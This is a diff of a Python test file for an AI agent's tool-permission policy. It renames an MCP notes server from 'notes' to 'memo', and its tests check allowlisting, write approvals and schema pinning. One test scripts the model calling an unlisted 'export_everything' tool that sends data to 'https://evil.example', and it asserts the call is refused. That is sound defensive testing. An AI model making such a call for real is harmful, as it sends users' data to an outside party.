@@ -35,18 +35,18 @@ from tools.registry import Registry
 _ROOT = Path(__file__).resolve().parent.parent
 
 _TOOLS = """
-[servers.notes.tools.list_notes]
+[servers.memo.tools.list_notes]
 tier = "allowlist"
 result_ids = { kind = "note", field = "id", label = "text" }
 usage_examples = ["list my notes"]
 
-[servers.notes.tools.add_note]
+[servers.memo.tools.add_note]
 tier = "confirmation"
 effect = "write"
 preview = "Add the note '{text}'"
 usage_examples = ["add a note"]
 
-[servers.notes.tools.reshape]
+[servers.memo.tools.reshape]
 tier = "allowlist"
 usage_examples = ["reshape the notes"]
 """
@@ -60,7 +60,7 @@ def policy(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Pat
         server = (f'command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]\n'
                   f'env = {{ NOTES_COUNT_FILE = "{counter}", PYTHONPATH = "{_ROOT}" }}\n')
         path = tmp_path / "policy.toml"
-        path.write_text("[servers.notes]\n" + server + textwrap.dedent(_TOOLS))
+        path.write_text("[servers.memo]\n" + server + textwrap.dedent(_TOOLS))
         yield path, counter
         return
     port = _free_port()
@@ -77,7 +77,7 @@ def policy(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Pat
                 assert proc.poll() is None and time.monotonic() < deadline, "the MCP server did not start"
                 time.sleep(0.1)
         path = tmp_path / "policy.toml"
-        path.write_text(f'[servers.notes]\nurl = "http://127.0.0.1:{port}/mcp"\n' + textwrap.dedent(_TOOLS))
+        path.write_text(f'[servers.memo]\nurl = "http://127.0.0.1:{port}/mcp"\n' + textwrap.dedent(_TOOLS))
         yield path, counter
     finally:
         stop_group(proc)
@@ -98,12 +98,12 @@ async def test_a_read_runs_and_a_write_runs_once_after_its_approval(
     mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path]
 ) -> None:
     offered = {s["function"]["name"] for s in mcp_turns.runner.services.registry.function_schemas()}
-    assert {"notes__list_notes", "notes__add_note"} <= offered and "notes__export_everything" not in offered
+    assert {"memo__list_notes", "memo__add_note"} <= offered and "memo__export_everything" not in offered
     thread = ctx.owner_id + "/mcp"
-    model.push(call("notes__list_notes", {}), say("You have two notes."))
+    model.push(call("memo__list_notes", {}), say("You have two notes."))
     out = await mcp_turns.send(ctx, thread, "list my notes")
     assert out.outcome == "read" and "buy milk" in str(model.prompts[-1][-1].content)
-    model.push(call("notes__add_note", {"text": "water the plants"}))
+    model.push(call("memo__add_note", {"text": "water the plants"}))
     out = await mcp_turns.send(ctx, thread, "add a note: water the plants")
     assert out.approval is not None and out.approval.preview == "Add the note 'water the plants'"
     assert _count(policy[1]) == 0
@@ -112,8 +112,8 @@ async def test_a_read_runs_and_a_write_runs_once_after_its_approval(
 
 
 async def test_a_tool_the_policy_does_not_name_is_refused(mcp_turns: Turns, model: ScriptedModel, ctx: Context) -> None:
-    model.push(call("notes__export_everything", {"destination": "https://evil.example"}),
-               call("notes__export_everything", {"destination": "https://evil.example"}))
+    model.push(call("memo__export_everything", {"destination": "https://evil.example"}),
+               call("memo__export_everything", {"destination": "https://evil.example"}))
     out = await mcp_turns.send(ctx, ctx.owner_id + "/mcp-unlisted", "export my notes")
     assert out.outcome in ("clarify", "refused") and out.approval is None
 
@@ -122,9 +122,9 @@ async def test_a_schema_changed_at_run_time_is_refused(
     mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path]
 ) -> None:
     thread = ctx.owner_id + "/mcp-changed"
-    model.push(call("notes__reshape", {}), say("Done."))
+    model.push(call("memo__reshape", {}), say("Done."))
     assert (await mcp_turns.send(ctx, thread, "reshape the notes")).outcome == "read"
-    model.push(call("notes__add_note", {"text": "after the change"}))
+    model.push(call("memo__add_note", {"text": "after the change"}))
     out = await mcp_turns.send(ctx, thread, "add a note: after the change")
     assert out.approval is not None
     done = await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})
@@ -136,10 +136,10 @@ async def test_a_schema_changed_at_run_time_is_refused(
 async def test_a_pinned_schema_that_differs_refuses_to_start(tmp_path: Path) -> None:
     path = tmp_path / "policy.toml"
     path.write_text(textwrap.dedent(f'''
-        [servers.notes]
+        [servers.memo]
         command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]
         env = {{ PYTHONPATH = "{_ROOT}" }}
-        [servers.notes.tools.list_notes]
+        [servers.memo.tools.list_notes]
         tier = "allowlist"
         schema_sha256 = "{schema_hash({"type": "object"})}"
     '''))
